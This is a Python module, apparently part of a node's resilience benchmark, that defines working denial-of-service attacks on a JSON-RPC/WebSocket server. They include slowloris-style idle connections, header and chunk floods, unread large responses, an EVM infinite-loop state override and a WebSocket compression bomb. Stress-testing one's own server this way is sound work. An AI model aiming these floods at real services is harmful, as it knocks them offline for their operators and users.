"""Connections that take places, never finish, never read, or send what costs little to send."""

from __future__ import annotations

import asyncio
import socket
import time
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress

import msgspec
from websockets.frames import Frame, Opcode

from benchmarks.attacks.attack import Attack, Target

SECONDS = 10.0
HEAD = b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
WEBSOCKET = (
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
)
HANDSHAKE = b"GET /ws HTTP/1.1\r\nHost: localhost\r\n" + WEBSOCKET
X = "0x00000000000000000000000000000000000000fe"


def body_of(method: str, *params: object) -> bytes:
    """A JSON-RPC body."""
    return msgspec.json.encode({"jsonrpc": "2.0", "id": 1, "method": method, "params": params})


def request_of(body: bytes) -> bytes:
    """A whole request."""
    return HEAD + b"Content-Length: %d\r\n\r\n" % len(body) + body


NUMBER = request_of(body_of("eth_blockNumber"))
LARGE_CALL = ({"to": X}, "latest", {X: {"code": "0x624c4b406000f3"}})
"""Returns 5 MB."""
LARGE = body_of("eth_call", *LARGE_CALL)


async def connect(target: Target, receive_buffer: int = 0) -> socket.socket:
    """A connection that does not block; the receive buffer is the system's, or at most so large."""
    peer = socket.socket()
    if receive_buffer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    peer.setblocking(False)
    await asyncio.get_running_loop().sock_connect(peer, (target.host, target.http_port))
    return peer


async def push(peer: socket.socket, data: bytes, seconds: float = SECONDS) -> int:
    """Send the same bytes again and again; how many of them went, until the time is up or the node hangs up."""
    loop, sent, end = asyncio.get_running_loop(), 0, time.perf_counter() + seconds
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(seconds):
            while time.perf_counter() < end:
                await loop.sock_sendall(peer, data)
                sent += len(data)
                await asyncio.sleep(0)
    return sent


def silent(count: int, data: bytes) -> Callable[[Target], Awaitable[str]]:
    """Connections that send so much and then nothing."""

    async def run(target: Target) -> str:
        peers = []
        loop = asyncio.get_running_loop()
        for _ in range(count):
            peer = await connect(target)
            with suppress(OSError):
                await loop.sock_sendall(peer, data)
            peers.append(peer)
        await asyncio.sleep(SECONDS)
        for peer in peers:
            peer.close()
        return f"{count} connections"

    return run


def flood(count: int, data: bytes, begin: bytes = b"", buffer: int = 0) -> Callable[[Target], Awaitable[str]]:
    """Connections that send the same again and again, behind a beginning, and read nothing."""

    async def run(target: Target) -> str:
        peers = [await connect(target, buffer) for _ in range(count)]
        for peer in peers:
            await asyncio.get_running_loop().sock_sendall(peer, begin)
        sent = sum(await asyncio.gather(*(push(peer, data) for peer in peers)))
        for peer in peers:
            peer.close()
        return f"{count} connections, {sent:,} bytes"

    return run


def unread(count: int, data: bytes, begin: bytes = b"") -> Callable[[Target], Awaitable[str]]:
    """Connections that ask once for much and read nothing of it."""

    async def run(target: Target) -> str:
        peers = [await connect(target, 4_096) for _ in range(count)]
        for peer in peers:
            await push(peer, begin + data, 0.01)
        await asyncio.sleep(SECONDS)
        for peer in peers:
            peer.close()
        return f"{count} connections"

    return run


async def many_heads(target: Target) -> str:
    """Eight different heads of 60 KB on each of as many connections as there may be."""
    peers = [await connect(target) for _ in range(240)]
    for number in range(8):
        for peer in peers:
            head = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nA: %d%s\r\n\r\n" % (number, b"a" * 60_000)
            with suppress(OSError):
                await asyncio.get_running_loop().sock_sendall(peer, head)
        for peer in peers:
            with suppress(OSError, TimeoutError):
                async with asyncio.timeout(2):
                    await asyncio.get_running_loop().sock_recv(peer, 65_536)
    await asyncio.sleep(2)
    for peer in peers:
        peer.close()
    return f"{len(peers)} connections"


def frame(opcode: Opcode, data: bytes = b"", fin: bool = True) -> bytes:
    """A frame of a client."""
    return Frame(opcode, data, fin).serialize(mask=True)


def bomb() -> bytes:
    """A compressed message of 5 MB."""
    packer = zlib.compressobj(wbits=-12)
    data = (packer.compress(b" " * 5_000_000 + b"{}") + packer.flush(zlib.Z_SYNC_FLUSH))[:-4]
    return b"\xc1\xfe" + len(data).to_bytes(2, "big") + bytes(4) + data


FRAGMENTS = frame(Opcode.CONT, b" ", fin=False) * 2_000
DEFLATE = HANDSHAKE + b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
SHAKEN = HANDSHAKE + b"\r\n"
LATE = HEAD + WEBSOCKET + b"Content-Length: 2\r\n\r\n{}"
LOOP = {X: {"code": "0x5b600056"}}
WAITING = frame(Opcode.TEXT, body_of("eth_call", {"to": X, "data": "0x" + "00" * 25_000}, "latest", LOOP))
"""A message of 50 KB whose answer takes as long as a call may."""
MEDIUM = frame(Opcode.TEXT, body_of("eth_call", {"to": X}, "latest", {X: {"code": "0x61753060006000f3"}}))
"""Its answer has 60 KB, which count as little."""
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
ATTACKS = (
    Attack("2", "silent connections", silent(600, b""), 40),
    Attack("2", "unfinished heads", silent(600, HEAD), 40),
    Attack("2", "kept connections", silent(600, NUMBER), 40),
    Attack("2", "idle WebSockets", silent(300, SHAKEN), 40),
    Attack("3", "POST with an offer of WebSocket", silent(260, LATE), 40),
    Attack("4", "requests sent ahead, answers not read", flood(50, NUMBER * 200, buffer=4_096), 40),
    Attack("5", "a header without an end", flood(2, b"a" * 65_536, HEAD + b"A: "), 40),
    Attack("5", "headers without an end", flood(2, b"A: 01234567890123456789\r\n" * 2_000, HEAD), 40),
    Attack("5", "a target without an end", flood(2, b"a" * 65_536, b"GET /"), 40),
    Attack("5", "trailers without an end", flood(2, b"A: 01234567890123456789\r\n" * 2_000, CHUNKED + b"0\r\n"), 40),
    Attack("5", "chunks of a byte", flood(2, b"1\r\n \r\n" * 5_000, CHUNKED), 40),
    Attack("6", "large answers not read, HTTP", unread(40, request_of(LARGE)), 40),
    Attack("6", "large answers not read, WebSocket", unread(1, frame(Opcode.TEXT, LARGE) * 200, SHAKEN), 40),
    Attack("6", "answers of 60 KB not read, WebSocket", unread(60, MEDIUM * 1_000, SHAKEN), 60),
    Attack("6", "messages of 50 KB that wait, WebSocket", unread(100, WAITING * 80, SHAKEN), 60),
    Attack("5", "heads of 60 KB, all different", many_heads, 60),
    Attack("15", "fragments of a byte", flood(2, FRAGMENTS, SHAKEN + frame(Opcode.TEXT, b"[", fin=False)), 40),
    Attack("15", "pings", flood(2, frame(Opcode.PING) * 2_000, SHAKEN), 40),
    Attack("15", "small requests, WebSocket", flood(4, frame(Opcode.TEXT, body_of("eth_chainId")) * 200, SHAKEN), 40),
    Attack("15", "compressed messages of 5 MB", flood(10, bomb(), DEFLATE), 40),
)
